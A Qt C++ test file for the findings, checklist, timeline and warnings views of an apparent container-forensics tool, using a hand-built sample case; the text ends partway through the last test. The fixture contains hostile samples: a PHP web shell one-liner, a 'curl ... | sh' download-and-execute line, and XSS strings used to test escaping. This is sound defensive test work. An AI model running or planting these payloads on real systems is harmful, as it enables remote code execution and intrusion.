// The analysis docks (security checklist, suspicious files, timeline, warnings, report preview)
// over a hand-built analysis: their models and proxies, sorting, filters, activation signals,
// empty states, and the HTML summary's escaping.

#include "analysis/analyzer.h"
#include "checklistmodel.h"
#include "checklistview.h"
#include "findingsmodel.h"
#include "findingsview.h"
#include "report/reporthtml.h"
#include "reportpreview.h"
#include "roles.h"
#include "settings.h"
#include "tarbuilder.h"
#include "timelinemodel.h"
#include "timelineview.h"
#include "warningsmodel.h"
#include "warningsview.h"

#include <QAbstractItemModelTester>
#include <QComboBox>
#include <QIcon>
#include <QLabel>
#include <QLineEdit>
#include <QRegularExpression>
#include <QSignalSpy>
#include <QSortFilterProxyModel>
#include <QStandardPaths>
#include <QTableView>
#include <QTest>
#include <QTextBrowser>

using namespace dockscope;
using namespace dockscope::test;

namespace {

const QString WebId = QString(64, u'a');
const QString JobId = QString(64, u'b');
const QString ImageId = QStringLiteral("sha256:") + QString(64, u'c');
const QString ImageSha = QStringLiteral("sha256:") + QString(64, u'1');
const QString HostilePath = QStringLiteral("/cases/42/<script>alert(1)</script>.tar");

ChecklistItem check(const char *id, const char *title, ChecklistItem::Status status,
                    Severity severity, const char *value, const char *source)
{
    ChecklistItem i;
    i.id = QString::fromUtf8(id);
    i.title = QString::fromUtf8(title);
    i.status = status;
    i.severity = severity;
    i.value = QString::fromUtf8(value);
    i.source = QString::fromUtf8(source);
    return i;
}

Finding finding(const char *id, const char *rule, Severity severity, const char *title,
                const char *path)
{
    Finding f;
    f.id = QString::fromUtf8(id);
    f.rule = QString::fromUtf8(rule);
    f.severity = severity;
    f.title = QString::fromUtf8(title);
    f.path = QString::fromUtf8(path);
    return f;
}

TimelineEvent event(const char *datetime, const char *desc, const char *source, const char *message,
                    const char *path = "")
{
    TimelineEvent e;
    e.datetime = QString::fromUtf8(datetime);
    e.timestampDesc = QString::fromUtf8(desc);
    e.source = QString::fromUtf8(source);
    e.message = QString::fromUtf8(message);
    e.path = QString::fromUtf8(path);
    return e;
}

Diagnostic diagnostic(Diagnostic::Severity severity, const char *evidence, const char *where,
                      qint64 offset, const char *text, QStringList args)
{
    Diagnostic d;
    d.severity = severity;
    d.evidence = QString::fromUtf8(evidence);
    d.where = QString::fromUtf8(where);
    d.offset = offset;
    d.text = text;
    d.args = std::move(args);
    return d;
}

// A case with two containers, an image, findings in no particular order, three timeline events
// and one diagnostic of each severity.
Analysis sampleAnalysis()
{
    using S = ChecklistItem::Status;
    Analysis a;
    a.toolVersion = QStringLiteral("0.1.0");

    EvidenceItem image;
    image.path = QStringLiteral("/cases/42/image.tar");
    image.kind = QStringLiteral("docker-archive");
    image.sha256 = ImageSha;
    image.sizeBytes = 123456;
    image.readable = true;
    EvidenceItem hostile;
    hostile.path = HostilePath;
    hostile.kind = QStringLiteral("unknown");
    hostile.sha256 = QStringLiteral("sha256:") + QString(64, u'2');
    a.evidence = {image, hostile};

    Image img;
    img.evidence = image.path;
    img.kind = QStringLiteral("image");
    img.format = QStringLiteral("docker-archive");
    img.id = ImageId;
    img.repoTags = {QStringLiteral("shop/web:1.0")};
    Layer l0;
    l0.index = 0;
    l0.sizeBytes = 5000;
    l0.readable = true;
    l0.verified = true;
    l0.createdBy = QStringLiteral("ADD rootfs.tar /");
    l0.changes.added = 12;
    Layer l1;
    l1.index = 1;
    l1.sizeBytes = 700;
    l1.readable = true;
    l1.verified = false;
    l1.createdBy = QStringLiteral("RUN echo '<img src=x onerror=alert(1)>' > /x");
    l1.changes.added = 1;
    l1.changes.modified = 2;
    l1.changes.removed = 3;
    img.layers = {l0, l1};
    img.efficiency.score = 0.75;
    img.efficiency.wastedBytes = 7000;
    img.efficiency.trulyWastedBytes = 5000;
    img.integrity = {{QStringLiteral("layer 1 diff_id"), QStringLiteral("sha256:") + QString(64, u'e'),
                      QStringLiteral("sha256:") + QString(64, u'f'), false}};
    a.images.push_back(img);

    Container web;
    web.id = WebId;
    web.name = QStringLiteral("/web");
    web.checklist = {
        check("RT-02", "Privileged container", S::Fail, Severity::Critical, "true",
              "hostconfig.json:HostConfig.Privileged"),
        check("RT-06", "Host network namespace", S::Warn, Severity::High, "host",
              "hostconfig.json:HostConfig.NetworkMode"),
        check("RT-15", "Runs as root", S::Pass, Severity::Medium, "app",
              "config.v2.json:Config.User"),
        check("RT-19", "No resource limits", S::NotApplicable, Severity::Low, "",
              "hostconfig.json:HostConfig.Memory"),
        check("RT-20", "Restart / health / logging posture", S::Warn, Severity::Info, "always",
              "hostconfig.json:HostConfig.RestartPolicy"),
    };
    Container job; // no name: shown by its short id
    job.id = JobId;
    job.checklist = {check("RT-01", "Container runtime socket mounted", S::Fail, Severity::High,
                           "/var/run/docker.sock", "config.v2.json:MountPoints")};
    a.containers = {web, job};

    Finding f1 = finding("F-1", "FC-01", Severity::Medium, "Web shell", "/var/www/html/shell.php");
    f1.image = ImageId;
    f1.layer = 1;
    f1.evidence = QStringLiteral("<?php system($_GET['c']);\n?>");
    f1.sha256 = QStringLiteral("sha256:") + QString(64, u'd');
    f1.evidenceFile = image.path;
    Finding f2 = finding("F-2", "RT-02", Severity::Critical, "Privileged container", "");
    f2.container = WebId;
    f2.evidence = QStringLiteral("HostConfig.Privileged=true");
    Finding f3 = finding("F-3", "LOG-01", Severity::Info, "Download and execute", "/root/.bash_history");
    f3.container = WebId;
    f3.line = 12;
    f3.evidence = QStringLiteral("curl http://203.0.113.9/x | sh");
    Finding f4 = finding("F-4", "FS-03", Severity::High, "SUID binary added", "/usr/local/bin/pwn");
    f4.image = ImageId;
    f4.layer = 1;
    f4.sha256 = QString(64, u'9');
    Finding f5 = finding("F-5", "FC-07", Severity::Low, "Miner configuration", "/tmp/config.json");
    f5.image = ImageId;
    f5.layer = 0;
    a.findings = {f1, f2, f3, f4, f5};

    TimelineEvent t1 = event("2023-12-24T08:30:00Z", "Content Modification Time", "layer",
                             "/usr/local/bin/pwn written", "/usr/local/bin/pwn");
    t1.layer = 1;
    TimelineEvent t2 = event("2024-03-01T10:00:00Z", "Container Started", "container", "web started");
    TimelineEvent t3 = event("2024-03-01T10:05:07Z", "Log Line", "log", "GET /shell.php?c=id");
    t3.findingId = QStringLiteral("F-1");
    a.timeline = {t1, t2, t3};

    a.diagnostics = {
        diagnostic(Diagnostic::Severity::Info, "/cases/42/logs/", "", -1,
                   QT_TRANSLATE_NOOP("Diagnostic", "Read %1 log lines"), {QStringLiteral("10")}),
        diagnostic(Diagnostic::Severity::Error, "/cases/42/broken.tar", "blobs/sha256/abcd", 1024,
                   QT_TRANSLATE_NOOP("Diagnostic", "The layer blob is truncated: %1 of %2 bytes"),
                   {QStringLiteral("512"), QStringLiteral("2048")}),
        diagnostic(Diagnostic::Severity::Warning, "/cases/42/image.tar", "manifest.json", -1,
                   QT_TRANSLATE_NOOP("Diagnostic", "The manifest names %1 layers, the config %2"),
                   {QStringLiteral("3"), QStringLiteral("2")}),
    };
    return a;
}

// Every row's DisplayRole texts, " | " between columns: the model as the examiner reads it.
QStringList dump(const QAbstractItemModel &model)
{
    QStringList rows;
    for (int r = 0; r < model.rowCount(); ++r) {
        QStringList cells;
        for (int c = 0; c < model.columnCount(); ++c) {
            cells << model.index(r, c).data().toString();
        }
        rows << cells.join(QStringLiteral(" | "));
    }
    return rows;
}

QStringList column(const QAbstractItemModel &model, int column, int role = Qt::DisplayRole)
{
    QStringList out;
    for (int r = 0; r < model.rowCount(); ++r) {
        out << model.index(r, column).data(role).toString();
    }
    return out;
}

void underTester(QAbstractItemModel *model, QObject *parent)
{
    new QAbstractItemModelTester(model, QAbstractItemModelTester::FailureReportingMode::QtTest, parent);
}

bool showsEmptyState(const QWidget &view)
{
    const auto *label = view.findChild<QLabel *>(QStringLiteral("emptyState"));
    return label && label->isVisible();
}

} // namespace

class TestDocks : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase()
    {
        QStandardPaths::setTestModeEnabled(true);
        Settings::setTimeDisplay(Settings::TimeDisplay::Utc);
    }

    void checklistModel()
    {
        ChecklistModel model;
        underTester(&model, &model);
        model.setAnalysis(sampleAnalysis());
        QCOMPARE(model.columnCount(), int(ChecklistModel::ColumnCount));
        QCOMPARE(dump(model), QStringList({
            QStringLiteral("web | RT-02 | Privileged container | fail | critical | true | hostconfig.json:HostConfig.Privileged"),
            QStringLiteral("web | RT-06 | Host network namespace | warn | high | host | hostconfig.json:HostConfig.NetworkMode"),
            QStringLiteral("web | RT-15 | Runs as root | pass | medium | app | config.v2.json:Config.User"),
            QStringLiteral("web | RT-19 | No resource limits | n/a | low |  | hostconfig.json:HostConfig.Memory"),
            QStringLiteral("web | RT-20 | Restart / health / logging posture | warn | info | always | hostconfig.json:HostConfig.RestartPolicy"),
            QStringLiteral("bbbbbbbbbbbb | RT-01 | Container runtime socket mounted | fail | high | /var/run/docker.sock | config.v2.json:MountPoints"),
        }));
        const QModelIndex status = model.index(1, ChecklistModel::StatusColumn);
        QCOMPARE(status.data(StatusRole).toInt(), int(ChecklistItem::Status::Warn));
        QCOMPARE(status.data(SortRole).toInt(), int(ChecklistItem::Status::Warn));
        QCOMPARE(model.index(0, ChecklistModel::SeverityColumn).data(SeverityRole).toInt(),
                 int(Severity::Critical));
        QCOMPARE(model.index(0, ChecklistModel::SeverityColumn).data(SortRole).toInt(), 0);
        QCOMPARE(model.index(5, 0).data(ContainerIdRole).toString(), JobId);
        QCOMPARE(model.containerId(model.index(5, 0)), JobId);
        QCOMPARE(model.item(model.index(2, 0))->id, QStringLiteral("RT-15"));
        // An icon and a colour for every status, distinct colours for fail and pass.
        for (int r = 0; r < 4; ++r) {
            QVERIFY(!qvariant_cast<QIcon>(model.index(r, ChecklistModel::StatusColumn).data(Qt::DecorationRole)).isNull());
            QVERIFY(model.index(r, ChecklistModel::StatusColumn).data(Qt::ForegroundRole).isValid());
        }
        QVERIFY(ChecklistModel::statusColor(ChecklistItem::Status::Fail)
                != ChecklistModel::statusColor(ChecklistItem::Status::Pass));
        QVERIFY(model.index(0, ChecklistModel::TitleColumn).data(Qt::ToolTipRole).toString()
                    .contains(QStringLiteral("hostconfig.json:HostConfig.Privileged")));
        model.setAnalysis(Analysis());
        QCOMPARE(model.rowCount(), 0);
    }

    void findingsModel()
    {
        FindingsModel model;
        underTester(&model, &model);
        model.setAnalysis(sampleAnalysis());
        QCOMPARE(dump(model), QStringList({
            QStringLiteral("medium | FC-01 | Web shell | /var/www/html/shell.php | image shop/web:1.0, layer 1 | <?php system($_GET['c']); ?> | dddddddddddd"),
            QStringLiteral("critical | RT-02 | Privileged container |  | container web | HostConfig.Privileged=true | "),
            QStringLiteral("info | LOG-01 | Download and execute | /root/.bash_history | container web, line 12 | curl http://203.0.113.9/x | sh | "),
            QStringLiteral("high | FS-03 | SUID binary added | /usr/local/bin/pwn | image shop/web:1.0, layer 1 |  | 999999999999"),
            QStringLiteral("low | FC-07 | Miner configuration | /tmp/config.json | image shop/web:1.0, layer 0 |  | "),
        }));
        const QModelIndex first = model.index(0, FindingsModel::PathColumn);
        QCOMPARE(first.data(FindingIdRole).toString(), QStringLiteral("F-1"));
        QCOMPARE(first.data(SeverityRole).toInt(), int(Severity::Medium));
        QCOMPARE(first.data(PathRole).toString(), QStringLiteral("/var/www/html/shell.php"));
        QCOMPARE(first.data(LayerRole).toInt(), 1);
        QCOMPARE(first.data(EvidenceRole).toString(), QStringLiteral("/cases/42/image.tar"));
        QCOMPARE(first.data(ImageIdRole).toString(), ImageId);
        QCOMPARE(model.index(2, 0).data(LineRole).toLongLong(), 12);
        QCOMPARE(model.index(1, 0).data(ContainerIdRole).toString(), WebId);
        QCOMPARE(model.index(0, FindingsModel::SeverityColumn).data(SortRole).toInt(), int(Severity::Medium));
        QCOMPARE(model.index(0, FindingsModel::Sha256Column).data(SortRole).toString(),
                 QStringLiteral("sha256:") + QString(64, u'd'));
        QVERIFY(!qvariant_cast<QIcon>(model.index(0, 0).data(Qt::DecorationRole)).isNull());
        // Tooltips quote the evidence as text: markup in it is escaped, never rendered.
        const QString tip = model.index(0, FindingsModel::EvidenceColumn).data(Qt::ToolTipRole).toString();
        QVERIFY(tip.contains(QStringLiteral("&lt;?php")));
        QVERIFY(!tip.contains(QStringLiteral("<?php")));
        QCOMPARE(model.finding(model.index(3, 0))->id, QStringLiteral("F-4"));
        QVERIFY(!model.finding(QModelIndex()));
        QCOMPARE(model.indexOfFinding(QStringLiteral("F-5")).row(), 4);
    }

    void timelineModel()
    {
        TimelineModel model;
        underTester(&model, &model);
        model.setAnalysis(sampleAnalysis());
        QCOMPARE(dump(model), QStringList({
            QStringLiteral("2023-12-24 08:30:00 UTC | Content Modification Time | layer | /usr/local/bin/pwn written | /usr/local/bin/pwn"),
            QStringLiteral("2024-03-01 10:00:00 UTC | Container Started | container | web started | "),
            QStringLiteral("2024-03-01 10:05:07 UTC | Log Line | log | GET /shell.php?c=id | "),
        }));
        QCOMPARE(model.index(0, TimelineModel::TimeColumn).data(SortRole).toString(),
                 QStringLiteral("2023-12-24T08:30:00Z"));
        QCOMPARE(model.index(0, 0).data(LayerRole).toInt(), 1);
        QCOMPARE(model.index(0, 0).data(PathRole).toString(), QStringLiteral("/usr/local/bin/pwn"));
        QCOMPARE(model.index(2, 0).data(FindingIdRole).toString(), QStringLiteral("F-1"));
        QCOMPARE(model.event(model.index(1, 3))->message, QStringLiteral("web started"));
        model.refreshTimes();
        QCOMPARE(model.index(2, 0).data().toString(), QStringLiteral("2024-03-01 10:05:07 UTC"));
    }

    void warningsModel()
    {
        WarningsModel model;
        underTester(&model, &model);
        model.setAnalysis(sampleAnalysis());
        QCOMPARE(dump(model), QStringList({
            QStringLiteral("info | logs |  |  | Read 10 log lines"),
            QStringLiteral("error | broken.tar | blobs/sha256/abcd | 1024 | The layer blob is truncated: 512 of 2048 bytes"),
            QStringLiteral("warning | image.tar | manifest.json |  | The manifest names 3 layers, the config 2"),
        }));
        QCOMPARE(model.index(1, WarningsModel::SeverityColumn).data(SortRole).toInt(), 0);
        QCOMPARE(model.index(0, WarningsModel::SeverityColumn).data(SortRole).toInt(), 2);
        QCOMPARE(model.index(1, 0).data(DiagnosticSeverityRole).toInt(), int(Diagnostic::Severity::Error));
        QCOMPARE(model.index(1, 0).data(EvidenceRole).toString(), QStringLiteral("/cases/42/broken.tar"));
        QCOMPARE(model.index(1, WarningsModel::OffsetColumn).data(SortRole).toLongLong(), 1024);
        QCOMPARE(model.index(1, 0).data(OffsetRole).toLongLong(), 1024);
        QVERIFY(model.index(1, WarningsModel::EvidenceColumn).data(Qt::ToolTipRole).toString()
                    .contains(QStringLiteral("/cases/42/broken.tar")));
        for (int r = 0; r < 3; ++r) {
            QVERIFY(!qvariant_cast<QIcon>(model.index(r, 0).data(Qt::DecorationRole)).isNull());
        }
        QCOMPARE(model.diagnostic(model.index(2, 0))->where, QStringLiteral("manifest.json"));
    }

    void findingsViewSortsMostSevereFirst()
    {
        FindingsView view;
        underTester(view.severityProxy(), &view);
        underTester(view.proxy(), &view);
        view.setAnalysis(sampleAnalysis());
        QCOMPARE(column(*view.proxy(), FindingsModel::SeverityColumn),
                 QStringList({QStringLiteral("critical"), QStringLiteral("high"), QStringLiteral("medium"),
                              QStringLiteral("low"), QStringLiteral("info")}));
        view.table()->sortByColumn(FindingsModel::SeverityColumn, Qt::DescendingOrder);
        QCOMPARE(view.proxy()->index(0, 0).data().toString(), QStringLiteral("info"));
        view.table()->sortByColumn(FindingsModel::RuleColumn, Qt::AscendingOrder);
        QCOMPARE(column(*view.proxy(), FindingsModel::RuleColumn),
                 QStringList({QStringLiteral("FC-01"), QStringLiteral("FC-07"), QStringLiteral("FS-03"),
                              QStringLiteral("LOG-01"), QStringLiteral("RT-02")}));
        view.table()->sortByColumn(FindingsModel::SeverityColumn, Qt::AscendingOrder);
        QCOMPARE(view.proxy()->index(0, FindingsModel::RuleColumn).data().toString(), QStringLiteral("RT-02"));
    }

    void findingsViewFilters()
    {
        FindingsView view;
        underTester(view.severityProxy(), &view);
        underTester(view.proxy(), &view);
        view.setAnalysis(sampleAnalysis());
        auto *filter = view.findChild<QLineEdit *>(QStringLiteral("filter"));
        QVERIFY(filter);
        // Debounced: nothing changes at once, then the rows narrow (any column, any case).
        filter->setText(QStringLiteral("SHOP/WEB"));
        QCOMPARE(view.proxy()->rowCount(), 5);
        QTRY_COMPARE(view.proxy()->rowCount(), 3);
        filter->setText(QStringLiteral("bash_HISTORY"));
        QTRY_COMPARE(view.proxy()->rowCount(), 1);
        QCOMPARE(view.proxy()->index(0, FindingsModel::RuleColumn).data().toString(), QStringLiteral("LOG-01"));
        filter->clear();
        QTRY_COMPARE(view.proxy()->rowCount(), 5);

        auto *severity = view.findChild<QComboBox *>(QStringLiteral("severityFilter"));
        QVERIFY(severity);
        const auto rules = [&view] { return column(*view.proxy(), FindingsModel::RuleColumn); };
        severity->setCurrentIndex(1); // critical
        QCOMPARE(rules(), QStringList({QStringLiteral("RT-02")}));
        severity->setCurrentIndex(2); // high and above
        QCOMPARE(rules(), QStringList({QStringLiteral("RT-02"), QStringLiteral("FS-03")}));
        severity->setCurrentIndex(4); // low and above
        QCOMPARE(view.proxy()->rowCount(), 4);
        // Both filters at once.
        filter->setText(QStringLiteral("layer"));
        QTRY_COMPARE(rules(), QStringList({QStringLiteral("FS-03"), QStringLiteral("FC-01"), QStringLiteral("FC-07")}));
        severity->setCurrentIndex(0);
        QCOMPARE(view.proxy()->rowCount(), 3);

        // Selecting a finding that the filters hide clears them.
        QVERIFY(view.selectFinding(QStringLiteral("F-2")));
        QCOMPARE(view.proxy()->rowCount(), 5);
        QCOMPARE(view.table()->currentIndex().data(FindingIdRole).toString(), QStringLiteral("F-2"));
        QVERIFY(!view.selectFinding(QStringLiteral("no-such-finding")));
    }

    void findingsViewRuleFilter()
    {
        FindingsView view;
        underTester(view.severityProxy(), &view);
        underTester(view.ruleProxy(), &view);
        underTester(view.proxy(), &view);
        view.setAnalysis(sampleAnalysis());
        auto *rule = view.findChild<QComboBox *>(QStringLiteral("ruleFilter"));
        QVERIFY(rule);
        // "All rules", then this analysis' rules in order.
        QStringList items;
        for (int i = 1; i < rule->count(); ++i) {
            items << rule->itemData(i).toString();
        }
        QCOMPARE(items, QStringList({QStringLiteral("FC-01"), QStringLiteral("FC-07"), QStringLiteral("FS-03"),
                                     QStringLiteral("LOG-01"), QStringLiteral("RT-02")}));
        rule->setCurrentIndex(rule->findData(QStringLiteral("FC-07")));
        QCOMPARE(column(*view.proxy(), FindingsModel::RuleColumn), QStringList({QStringLiteral("FC-07")}));
        // Matched whole: FC-0 alone would match nothing, and FC-01 does not match FC-07.
        rule->setCurrentIndex(rule->findData(QStringLiteral("FC-01")));
        QCOMPARE(column(*view.proxy(), FindingsModel::PathColumn), QStringList({QStringLiteral("/var/www/html/shell.php")}));
        // With the severity filter: FC-01 is medium, so "high and above" leaves nothing.
        auto *severity = view.findChild<QComboBox *>(QStringLiteral("severityFilter"));
        severity->setCurrentIndex(2);
        QCOMPARE(view.proxy()->rowCount(), 0);
        severity->setCurrentIndex(3); // medium and above
        QCOMPARE(view.proxy()->rowCount(), 1);
        // A new analysis keeps the rule while it is there, and drops it when it is gone.
        view.setAnalysis(sampleAnalysis());
        QCOMPARE(rule->currentData().toString(), QStringLiteral("FC-01"));
        QCOMPARE(view.proxy()->rowCount(), 1);
        Analysis fewer = sampleAnalysis();
        fewer.findings.erase(fewer.findings.begin()); // F-1, the FC-01
        view.setAnalysis(fewer);
        QCOMPARE(rule->currentIndex(), 0);
        QCOMPARE(rule->count(), 5);
        severity->setCurrentIndex(0);
        QCOMPARE(view.proxy()->rowCount(), 4);
        // Selecting a finding the rule filter hides clears the filters.
        rule->setCurrentIndex(rule->findData(QStringLiteral("RT-02")));
        QCOMPARE(view.proxy()->rowCount(), 1);
        QVERIFY(view.selectFinding(QStringLiteral("F-4")));
        QCOMPARE(rule->currentIndex(), 0);
        QCOMPARE(view.currentFinding().rule, QStringLiteral("FS-03"));
    }

    void findingsViewActivation()
    {
        FindingsView view;
        underTester(view.severityProxy(), &view);
        underTester(view.proxy(), &view);
        view.resize(1000, 400);
        view.setAnalysis(sampleAnalysis());
        view.show();
        QVERIFY(QTest::qWaitForWindowExposed(&view));
        QSignalSpy activated(&view, &FindingsView::findingActivated);
        QSignalSpy current(&view, &FindingsView::currentFindingChanged);
        QTableView *table = view.table();

        // Row 1 is the high finding (most severe first).
        const QRect rect = table->visualRect(view.proxy()->index(1, FindingsModel::TitleColumn));
        QVERIFY(rect.isValid());
        // A real double-click is a press and release, then the double-click event; QTest's
        // widget mouseDClick sends only the last, and the view needs the press to act on it.
        QTest::mouseClick(table->viewport(), Qt::LeftButton, {}, rect.center());
        QCOMPARE(activated.count(), 0);
        QTest::mouseDClick(table->viewport(), Qt::LeftButton, {}, rect.center());
        QCOMPARE(activated.count(), 1);
        QCOMPARE(qvariant_cast<Finding>(activated.at(0).at(0)).id, QStringLiteral("F-4"));
        QVERIFY(current.count() >= 1);
        QCOMPARE(qvariant_cast<Finding>(current.last().at(0)).id, QStringLiteral("F-4"));

        table->setFocus();
        table->setCurrentIndex(view.proxy()->index(3, 0)); // low
        QCOMPARE(qvariant_cast<Finding>(current.last().at(0)).id, QStringLiteral("F-5"));
        QTest::keyClick(table, Qt::Key_Return);
        QCOMPARE(activated.count(), 2);
        const Finding f = qvariant_cast<Finding>(activated.at(1).at(0));
        QCOMPARE(f.id, QStringLiteral("F-5"));
        QCOMPARE(f.path, QStringLiteral("/tmp/config.json"));
        QCOMPARE(f.layer, 0);
        QCOMPARE(f.image, ImageId);
    }

    void emptyStates()
    {
        const Analysis sample = sampleAnalysis();
        FindingsView findings;
        ChecklistView checklist;
        TimelineView timeline;
        WarningsView warnings;
        ReportPreview report;
        const QList<QWidget *> views{&findings, &checklist, &timeline, &warnings, &report};
        for (QWidget *w : views) {
            w->show();
        }
        // Before any analysis and after an empty one: the label says what will appear here.
        for (QWidget *w : views) {
            QVERIFY2(showsEmptyState(*w), w->metaObject()->className());
        }
        findings.setAnalysis(sample);
        checklist.setAnalysis(sample);
        timeline.setAnalysis(sample);
        warnings.setAnalysis(sample);
        report.setAnalysis(sample);
        for (QWidget *w : views) {
            QVERIFY2(!showsEmptyState(*w), w->metaObject()->className());
        }
        QVERIFY(findings.table()->isVisible());
        findings.setAnalysis(Analysis());
        checklist.setAnalysis(Analysis());
        timeline.setAnalysis(Analysis());
        warnings.setAnalysis(Analysis());
        report.setAnalysis(Analysis());
        for (QWidget *w : views) {
            QVERIFY2(showsEmptyState(*w), w->metaObject()->className());
        }
        QVERIFY(!findings.table()->isVisible());
        QVERIFY(findings.findChild<QLabel *>(QStringLiteral("emptyState"))->text().contains(
            QStringLiteral("findings engine")));
        QVERIFY(warnings.findChild<QLabel *>(QStringLiteral("emptyState"))->text().contains(
            QStringLiteral("No evidence analysed yet")));
        // Evidence read without problems says so.
        Analysis clean;
        clean.evidence = sample.evidence;
        warnings.setAnalysis(clean);
        QVERIFY(showsEmptyState(warnings));
        QVERIFY(warnings.findChild<QLabel *>(QStringLiteral("emptyState"))->text().contains(
            QStringLiteral("without problems")));
    }

    void checklistView()
    {
        ChecklistView view;
        underTester(view.statusProxy(), &view);
        underTester(view.proxy(), &view);
        view.setAnalysis(sampleAnalysis());
        // Failed checks first; stable, so container and RT order hold within a status.
        QCOMPARE(column(*view.proxy(), ChecklistModel::IdColumn),
                 QStringList({QStringLiteral("RT-02"), QStringLiteral("RT-01"), QStringLiteral("RT-06"),
                              QStringLiteral("RT-20"), QStringLiteral("RT-15"), QStringLiteral("RT-19")}));
        view.table()->sortByColumn(ChecklistModel::SeverityColumn, Qt::AscendingOrder);
        QCOMPARE(view.proxy()->index(0, ChecklistModel::SeverityColumn).data().toString(),
                 QStringLiteral("critical"));
        auto *status = view.findChild<QComboBox *>(QStringLiteral("statusFilter"));
        QVERIFY(status);
        status->setCurrentIndex(1); // fail and warn
        QCOMPARE(view.proxy()->rowCount(), 4);
        status->setCurrentIndex(4); // pass
        QCOMPARE(column(*view.proxy(), ChecklistModel::IdColumn), QStringList({QStringLiteral("RT-15")}));
        status->setCurrentIndex(0);
        auto *filter = view.findChild<QLineEdit *>(QStringLiteral("filter"));
        filter->setText(QStringLiteral("HOSTCONFIG.json"));
        QTRY_COMPARE(view.proxy()->rowCount(), 4);
        filter->setText(QStringLiteral("bbbbbb"));
        QTRY_COMPARE(column(*view.proxy(), ChecklistModel::IdColumn), QStringList({QStringLiteral("RT-01")}));
    }

    void checklistViewCheckFilter()
    {
        ChecklistView view;
        underTester(view.statusProxy(), &view);
        underTester(view.checkProxy(), &view);
        underTester(view.proxy(), &view);
        view.setAnalysis(sampleAnalysis());
        auto *check = view.findChild<QComboBox *>(QStringLiteral("checkFilter"));
        QVERIFY(check);
        QCOMPARE(check->count(), 7); // all, RT-01, RT-02, RT-06, RT-15, RT-19, RT-20
        QCOMPARE(check->itemData(1).toString(), QStringLiteral("RT-01"));
        check->setCurrentIndex(check->findData(QStringLiteral("RT-02")));
        QCOMPARE(column(*view.proxy(), ChecklistModel::IdColumn), QStringList({QStringLiteral("RT-02")}));
        QCOMPARE(view.proxy()->index(0, ChecklistModel::ValueColumn).data().toString(), QStringLiteral("true"));
        auto *status = view.findChild<QComboBox *>(QStringLiteral("statusFilter"));
        status->setCurrentIndex(4); // pass: RT-02 failed
        QCOMPARE(view.proxy()->rowCount(), 0);
        status->setCurrentIndex(0);
        view.table()->setCurrentIndex(view.proxy()->index(0, 0));
        QString containerId;
        const ChecklistItem *item = view.currentItem(&containerId);
        QVERIFY(item);
        QCOMPARE(item->id, QStringLiteral("RT-02"));
        QCOMPARE(containerId, WebId);
    }

    void timelineViewTypeFilter()
    {
        TimelineView view;
        underTester(view.sourceProxy(), &view);
        underTester(view.typeProxy(), &view);
        underTester(view.proxy(), &view);
        view.setAnalysis(sampleAnalysis());
        auto *type = view.findChild<QComboBox *>(QStringLiteral("typeFilter"));
        QVERIFY(type);
        QCOMPARE(type->count(), 4); // all, Container Started, Content Modification Time, Log Line
        type->setCurrentIndex(type->findData(QStringLiteral("Container Started")));
        QCOMPARE(column(*view.proxy(), TimelineModel::MessageColumn), QStringList({QStringLiteral("web started")}));
        auto *source = view.findChild<QComboBox *>(QStringLiteral("sourceFilter"));
        source->setCurrentIndex(source->findData(QStringLiteral("log")));
        QCOMPARE(view.proxy()->rowCount(), 0);
        type->setCurrentIndex(type->findData(QStringLiteral("Log Line")));
        QCOMPARE(view.proxy()->rowCount(), 1);
        view.table()->setCurrentIndex(view.proxy()->index(0, 0));
        QVERIFY(view.currentEvent());
        QCOMPARE(view.currentEvent()->findingId, QStringLiteral("F-1"));
    }

    void timelineView()
    {
        TimelineView view;
        underTester(view.sourceProxy(), &view);
        underTester(view.proxy(), &view);
        view.resize(1000, 400);
        view.setAnalysis(sampleAnalysis());
        QCOMPARE(view.proxy()->rowCount(), 3);
        view.table()->sortByColumn(TimelineModel::TimeColumn, Qt::DescendingOrder);
        QCOMPARE(view.proxy()->index(0, TimelineModel::TypeColumn).data().toString(), QStringLiteral("Log Line"));
        view.table()->sortByColumn(TimelineModel::TimeColumn, Qt::AscendingOrder);
        QCOMPARE(view.proxy()->index(0, TimelineModel::SourceColumn).data().toString(), QStringLiteral("layer"));

        auto *source = view.findChild<QComboBox *>(QStringLiteral("sourceFilter"));
        QVERIFY(source);
        QCOMPARE(source->count(), 4); // all, container, layer, log
        source->setCurrentIndex(source->findData(QStringLiteral("log")));
        QCOMPARE(view.proxy()->rowCount(), 1);
        // A new analysis keeps the chosen source when it still exists.
        view.setAnalysis(sampleAnalysis());
        QCOMPARE(source->currentData().toString(), QStringLiteral("log"));
        QCOMPARE(view.proxy()->rowCount(), 1);
        source->setCurrentIndex(0);
        auto *filter = view.findChild<QLineEdit *>(QStringLiteral("filter"));
        filter->setText(QStringLiteral("PWN"));
        QTRY_COMPARE(view.proxy()->rowCount(), 1);
        filter->clear();
        QTRY_COMPARE(view.proxy()->rowCount(), 3);

        view.show();
        QVERIFY(QTest::qWaitForWindowExposed(&view));
        QSignalSpy activated(&view, &TimelineView::eventActivated);
        const QRect rect = view.table()->visualRect(view.proxy()->index(1, TimelineModel::MessageColumn));
        QTest::mouseClick(view.table()->viewport(), Qt::LeftButton, {}, rect.center());
        QTest::mouseDClick(view.table()->viewport(), Qt::LeftButton, {}, rect.center());
        QCOMPARE(activated.count(), 1);
        QCOMPARE(qvariant_cast<TimelineEvent>(activated.at(0).at(0)).message, QStringLiteral("web started"));
    }

    void warningsView()
    {
        WarningsView view;
        underTester(view.severityProxy(), &view);
        underTester(view.proxy(), &view);
        view.resize(1000, 400);
        view.setAnalysis(sampleAnalysis());
        // Errors first, then warnings, then information.
        QCOMPARE(column(*view.proxy(), WarningsModel::SeverityColumn),
                 QStringList({QStringLiteral("error"), QStringLiteral("warning"), QStringLiteral("info")}));
        auto *severity = view.findChild<QComboBox *>(QStringLiteral("severityFilter"));
        QVERIFY(severity);
        severity->setCurrentIndex(1); // errors
        QCOMPARE(view.proxy()->rowCount(), 1);
        severity->setCurrentIndex(2); // errors and warnings
        QCOMPARE(view.proxy()->rowCount(), 2);
        severity->setCurrentIndex(3); // information
        QCOMPARE(column(*view.proxy(), WarningsModel::MessageColumn), QStringList({QStringLiteral("Read 10 log lines")}));
        severity->setCurrentIndex(0);
        auto *filter = view.findChild<QLineEdit *>(QStringLiteral("filter"));
        filter->setText(QStringLiteral("TRUNCATED"));
        QTRY_COMPARE(view.proxy()->rowCount(), 1);
        filter->clear();
        QTRY_COMPARE(view.proxy()->rowCount(), 3);

        view.show();
        QVERIFY(QTest::qWaitForWindowExposed(&view));
